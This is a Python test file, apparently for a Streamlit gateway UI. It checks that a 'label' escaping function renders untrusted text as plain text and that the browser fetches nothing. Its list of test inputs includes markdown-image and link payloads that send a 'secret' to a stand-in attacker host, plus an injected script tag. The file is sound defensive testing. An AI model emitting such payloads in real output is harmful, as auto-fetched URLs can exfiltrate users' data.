"""Text of others in Streamlit's labels: read in a real browser, which would fetch what they hold."""

import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from playwright.async_api import Page, expect

from gateway_ui.drawing.plain import label
from tests.browser import wait_for_port
from tests.ports import free_port

HOSTILE = [
    "![x](http://attacker.example/?q=secret)",
    "![x](/secret.png)",
    "[click](http://attacker.example/)",
    "![x][y] [y]: http://attacker.example/y.png",
    "[y]: http://attacker.example/y.png",
    "<img src=http://attacker.example/i.png> <script>alert(1)</script> <b>bold</b> <!-- hidden -->",
    "<http://attacker.example/> http://attacker.example/a www.attacker.example me@attacker.example",
    ":material/home: :streamlit: :smile: :+1: :material_home: ::red[x] :::note",
    ":red[red] :blue-background[blue] :orange-badge[b] :small[s] :color[c]{foreground=red} :help[h] :shimmer[s]",
    "$x^2$ $$y$$ \\(z\\) cost $5 and $6",
    "`code` ``more`` *em* **strong** _em_ __init__ ~~gone~~ ~sub~ a_b __a__b__ _a b_",
    "a -> b <- c <-> d -- e >= f <= g ~= h --- ->",
    "&amp; &#33;[x](http://attacker.example/) &copy; \\![x](http://attacker.example/)",
    "\\",
    "# heading",
    "- item",
    "+ item",
    "1. item",
    "12) item",
    "> quote",
    "---",
    "===",
    "| a | b |",
    "```python",
    "    indented",
    "get_weather v1.2-beta (old), 50% of 'it'; \"what\"?",
    "[^1] [x] [ ] \\[x\\] ![",
    "Grüße, 日本語, עברית",
]
"""Each is shown as it stands."""

PAGE = """
import json, sys
import streamlit as st
from gateway_ui.drawing.plain import label
st.selectbox("Model", json.loads(sys.argv[1])[:8], key="model")
for number, text in enumerate(json.loads(sys.argv[1])):
    with st.container(key=f"labels-{number}"):
        shown = label(text)
        st.text_area(shown, key=f"area-{number}")
        st.button(shown, key=f"button-{number}")
        st.toggle(shown, key=f"toggle-{number}")
        with st.expander(shown):
            st.text("inside")
        st.status(shown, type="compact")
        st.markdown(shown)
st.toggle("Helped", help=label(json.loads(sys.argv[1])[0]))
st.text("The end")
"""


@pytest.fixture(scope="module")
def labels(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A page of labels, by its URL."""
    script = tmp_path_factory.mktemp("labels") / "script.py"
    script.write_text(PAGE)
    port = free_port()
    process = subprocess.Popen(
        [
            *(sys.executable, "-m", "streamlit", "run", str(script), "--server.port", str(port)),
            *("--server.headless", "true", "--browser.gatherUsageStats", "false", "--server.fileWatcherType", "none"),
            *("--", json.dumps(HOSTILE)),
        ],
        stdout=subprocess.DEVNULL,
        text=True,
        cwd=Path(__file__).parents[2],
    )
    wait_for_port(port, process)
    yield f"http://localhost:{port}"
    process.terminate()
    process.wait(30)


async def drawn(tab: Page, labels: str) -> None:
    await tab.goto(labels)
    await expect(tab.get_by_text("The end")).to_be_visible()
    await expect(tab.get_by_test_id("stApp")).to_have_attribute("data-test-script-state", "notRunning")


@pytest.mark.browser
async def test_every_label_shows_exactly_the_text_and_nothing_is_fetched(tab: Page, labels: str) -> None:
    asked: list[str] = []
    tab.on("request", lambda request: asked.append(request.url))
    await drawn(tab, labels)
    for number, text in enumerate(HOSTILE):
        shown = tab.locator(f".st-key-labels-{number}").get_by_test_id("stMarkdownContainer")
        await expect(shown).to_have_count(6)
        found = [one.replace("\u2060", "") for one in await shown.all_inner_texts()]
        assert [" ".join(one.split()) for one in found] == [" ".join(text.split())] * 6
        assert await shown.locator("img, a, code, em, strong, del, span, svg, li, h1").count() == 0
    assert not [url for url in asked if "attacker" in url or "secret" in url]


@pytest.mark.browser
async def test_options_of_a_selectbox_are_plain_text_without_it_and_tooltips_are_not(tab: Page, labels: str) -> None:
    await drawn(tab, labels)
    await tab.get_by_role("combobox", name="Model").click()
    options = tab.get_by_role("option")
    await expect(options.first).to_have_text(HOSTILE[0])
    assert await options.all_text_contents() == HOSTILE[:8]
    await expect(options.locator("img, a")).to_have_count(0)
    await tab.keyboard.press("Escape")
    await tab.get_by_role("button", name="Help for Helped").hover()
    tip = tab.get_by_test_id("stTooltipContent")
    await expect(tip).to_contain_text("![x](")
    await expect(tip.locator("img, a")).to_have_count(0)


@pytest.mark.parametrize("name", ["get_weather", "gemini-3.8-flash", "v1.2", "search.web", "Result of a_b_c"])
def test_a_usual_name_is_not_changed(name: str) -> None:
    assert label(name) == name


@pytest.mark.parametrize(
    ("text", "shown"),
    [("a\n\n# b\r\n\tc", "a \\# b c"), ("a\u202eb\x00c\u200f", "a\ufffdb\ufffdc\ufffd"), ("", ""), ("  ", "")],
)
def test_white_space_is_one_space_and_what_turns_text_around_is_seen(text: str, shown: str) -> None:
    assert label(text) == shown


@given(st.text(alphabet="!\\[]()<>*_`$:~#&|-=ab1. /@www", max_size=40))
def test_nothing_is_lost_and_no_sign_that_begins_something_is_left_bare(text: str) -> None:
    shown = label(text)
    assert "\n" not in shown
    bare = shown.replace("\u2060", "")
    without: list[str] = []
    escaped = False
    for letter in bare:
        if letter == "\\" and not escaped:
            escaped = True
            continue
        assert escaped or letter not in "`*[]<>&$~|#!"
        without.append(letter)
        escaped = False
    assert "".join(without) == " ".join(text.split())
